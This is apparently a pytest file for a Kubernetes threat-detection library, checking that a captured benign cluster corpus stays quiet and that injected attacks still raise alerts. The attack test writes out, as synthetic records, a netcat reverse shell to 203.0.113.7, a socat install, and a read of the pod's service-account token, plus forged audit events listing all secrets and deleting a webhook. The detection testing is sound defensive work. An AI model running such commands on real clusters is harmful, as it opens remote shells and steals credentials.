"""A normal cluster is quiet: the benign corpus in vigil's own sources' records (tests/data/benign/: the node
collector's eBPF and containerd records captured for real by tests/integration/capture_benign.py, the audit
events of a real apiserver, controller manager and scheduler and their clients captured by
tests/integration/capture_benign_audit.py, and authored audit events of controllers, operators, nodes and people
at work) raises nothing above informational through the whole library, with the tuning a deployment keeps beside
it (tests/data/benign/detections.toml).

The same replay, with attacks mixed into the same pods and identities, alerts: quiet because the activity is
normal, not because the replay is mute."""

from __future__ import annotations

import copy
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from vigil.alert import Alert
from vigil.detections.engine import Engine
from vigil.detections.replay import Replay
from vigil.detections.tuning import Tuning
from vigil.sources.source import get_source

CORPUS = Path(__file__).resolve().parents[1] / "data" / "benign"
TUNING = CORPUS / "detections.toml"
FILES = {"ebpf": CORPUS / "node-ebpf.jsonl", "containerd": CORPUS / "node-containerd.jsonl",
         "k8s-audit": CORPUS / "k8s-audit.jsonl"}
#: Every file of the quiet corpus with its source: the audit events captured from a real apiserver too.
QUIET = [*FILES.items(), ("k8s-audit", CORPUS / "k8s-audit-captured.jsonl")]
#: The corpus's pods: a web server, an API with its init containers, a CI runner job and an image build, a pod on
#: a CNI network, and two pods people exec into.
NAMESPACES = {"shop", "payments", "gitlab-runner", "monitoring", "dev-alice", "staging"}


def engine() -> Engine:
    loaded = Engine.load(tuning=Tuning.load(TUNING))
    assert not loaded.errors, loaded.errors
    return loaded


def replay(source: str, path: Path) -> list[Alert]:
    report = Replay(get_source(source), engine(), cluster="benign", node="node-benign-1",
                    max_record_bytes=1 << 20).run([path])
    assert report.records == len(path.read_bytes().splitlines()) and not report.rejected, report.rejected
    return list(report.alerts.values())


def loud(alerts: list[Alert]) -> list[str]:
    return sorted(f"{a.detection} ({a.severity}): {a.title}" for a in alerts if a.severity != "informational")


def records(path: Path) -> list[dict]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


def test_the_node_corpus_is_ordinary_activity_of_every_kind() -> None:
    node = records(FILES["ebpf"])
    execs = [r for r in node if r["type"] == "exec"]
    programs = {r["args"][0].rpartition("/")[2] for r in execs if r.get("args")}
    assert {r.get("k8s", {}).get("namespace") for r in node} >= NAMESPACES
    # entrypoints and probes, init containers waiting and installing, CI (git, the compiler, the built program,
    # tar), the runtime and CNI
    assert {"sh", "httpd", "cat", "wget", "nslookup", "nc", "dpkg", "git", "cc", "app", "tar", "runc", "bridge",
            "host-local"} <= programs, programs
    assert {"exec", "exit", "mount", "ns_change", "setid", "file_write", "open", "connect", "accept"} <= {
        r["type"] for r in node}
    assert {r["kind"] for r in records(FILES["containerd"])} >= {"container.create", "container.start",
                                                                 "container.exit", "container.delete"}


@pytest.mark.parametrize(("source", "path"), QUIET, ids=[path.name for _, path in QUIET])
def test_normal_cluster_activity_raises_nothing_above_informational(source: str, path: Path) -> None:
    assert loud(replay(source, path)) == []


def test_the_captured_audit_log_is_a_control_plane_and_its_clients_at_work() -> None:
    users = {event["user"]["username"] for event in records(CORPUS / "k8s-audit-captured.jsonl")}
    assert {"system:kube-controller-manager", "system:kube-scheduler", "system:node:worker-1",
            "system:serviceaccount:kube-system:generic-garbage-collector",
            "system:serviceaccount:cert-manager:cert-manager-cainjector",
            "system:serviceaccount:monitoring:kube-state-metrics", "alice@example.com"} <= users


def _at(time_ns: int) -> str:
    return datetime.fromtimestamp(time_ns / 1e9, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def test_people_s_exec_sessions_are_quiet_across_sources(tmp_path: Path) -> None:
    """The API's record of each person's ``kubectl exec`` and the node's record of the shell it opened, in one
    engine in time order: the sequence detections join them (exec, then wget in the pod), and the namespaces'
    tuning keeps the joined session informational."""
    node = records(FILES["ebpf"])
    execs = [e for e in records(FILES["k8s-audit"]) if e["objectRef"].get("subresource") == "exec"]
    chunks: list[tuple[str, list[dict]]] = []
    start = 0
    for event in execs:
        shell = next(i for i, r in enumerate(node) if r["type"] == "exec" and r["args"] == ["sh"]
                     and r["k8s"]["pod"] == event["objectRef"]["name"])
        event["requestReceivedTimestamp"] = event["stageTimestamp"] = _at(node[shell]["time_ns"] - 1_000_000_000)
        chunks += [("ebpf", node[start:shell]), ("k8s-audit", [event])]
        start = shell
    chunks.append(("ebpf", node[start:]))
    engine_ = engine()
    alerts: dict[str, Alert] = {}
    for number, (source, chunk) in enumerate(chunks):
        path = tmp_path / f"{number}.jsonl"
        path.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in chunk))
        report = Replay(get_source(source), engine_, cluster="benign", node="node-benign-1",
                        max_record_bytes=1 << 20).run([path])
        alerts.update(report.alerts)

    assert loud(list(alerts.values())) == []
    assert {(a.detection, a.namespace) for a in alerts.values()} >= {
        ("seq.exec_then_tooling", "dev-alice"), ("seq.exec_then_tooling", "staging")}


def _mixed_in(tmp_path: Path, source: str, attacks: list[dict]) -> Path:
    path = tmp_path / f"{source}.jsonl"
    path.write_bytes(FILES[source].read_bytes() + b"".join(orjson.dumps(a) + b"\n" for a in attacks))
    return path


def _exec_like(template: dict, args: list[str], exe: str) -> dict:
    record = copy.deepcopy(template)
    record.update(args=args, exe=exe, comm=args[0].rpartition("/")[2][:15], pid=record["pid"] + 100_000,
                  time_ns=record["time_ns"] + 1_000_000)
    return record


def test_attacks_in_the_same_pods_still_alert(tmp_path: Path) -> None:
    """In the corpus's own pods: a reverse shell in the dev namespace whose exec is tuned down, a package
    install in the web server (not an init container) and the web server's token read by cat."""
    node = records(FILES["ebpf"])
    shell = next(r for r in node if r["type"] == "exec" and r["k8s"]["namespace"] == "dev-alice"
                 and r["args"] == ["sh"])
    web = next(r for r in node if r["type"] == "exec" and r["k8s"]["container_name"] == "web")
    attacks = [
        _exec_like(shell, ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "/bin/busybox"),
        _exec_like(web, ["apk", "add", "--no-cache", "socat"], "/sbin/apk"),
        _exec_like(web, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "/bin/busybox"),
    ]

    alerts = replay("ebpf", _mixed_in(tmp_path, "ebpf", attacks))

    assert {(a.detection, a.namespace) for a in alerts if a.severity in ("critical", "high", "medium")} >= {
        ("runtime.reverse_shell", "dev-alice"), ("runtime.package_manager_in_container", "shop"),
        ("runtime.sensitive_file_read", "shop")}


def test_attacks_by_the_same_identities_still_alert(tmp_path: Path) -> None:
    """The operator who execs in dev-alice execing into production; the CA injector deleting a webhook; the CI
    deployer listing every secret in the cluster."""
    audit = records(FILES["k8s-audit"])
    exec_event = next(e for e in audit if e["objectRef"].get("subresource") == "exec")
    injector = next(e for e in audit if e["objectRef"]["resource"] == "validatingwebhookconfigurations")
    deployer = next(e for e in audit if e["user"]["username"].endswith(":deployer"))
    attacks = [copy.deepcopy(e) for e in (exec_event, injector, deployer)]
    attacks[0]["objectRef"]["namespace"] = "payments"
    attacks[0]["requestURI"] = attacks[0]["requestURI"].replace("/dev-alice/", "/payments/")
    attacks[1]["verb"] = "delete"
    attacks[2]["objectRef"].pop("namespace")
    attacks[2]["requestURI"] = "/api/v1/secrets"
    for number, attack in enumerate(attacks):
        attack["auditID"] = f"00000000-0000-4000-8000-00000000000{number}"

    alerts = replay("k8s-audit", _mixed_in(tmp_path, "k8s-audit", attacks))

    assert {a.detection for a in alerts if a.severity in ("critical", "high")} >= {
        "k8s.exec_into_pod", "k8s.admission_webhook_changed", "k8s.secrets_listed_cluster_wide"}


def test_a_node_agent_daemonset_with_another_image_still_alerts(tmp_path: Path) -> None:
    """Argo CD's calico-node DaemonSet, and the pod the daemon-set controller made of it, with the image swapped
    for one that is no node agent: the DaemonSet is critical again (its pods stay the template's business)."""
    captured = CORPUS / "k8s-audit-captured.jsonl"
    swapped = tmp_path / "swapped.jsonl"
    swapped.write_bytes(captured.read_bytes().replace(b"quay.io/calico/node:v3.28.2", b"ghcr.io/mallory/node:1"))

    alerts = replay("k8s-audit", swapped)

    assert [(a.severity, a.context["workload"]) for a in alerts if a.detection == "k8s.privileged_container"] == [
        ("critical", "DaemonSet/calico-node")]


def test_an_image_build_on_the_node_is_what_the_sensor_cannot_yet_tell_from_the_node() -> None:
    """buildah on the node itself: its layer extraction writes the image's /bin in a chroot, and its RUN step
    runs in a cgroup the sensor does not know as a container, so both look like writes to the node's own files.
    Image builds in pods (kaniko, in node-ebpf.jsonl) are quiet; this pins what is left, so a sensor that learns
    the difference turns this test red and the build records can join the quiet corpus."""
    alerts = replay("ebpf", CORPUS / "build-ebpf.jsonl")

    assert {(a.detection, a.severity) for a in alerts if a.severity in ("critical", "high", "medium")} == {
        ("runtime.binary_dir_write", "high"), ("runtime.node_persistence_write", "high")}
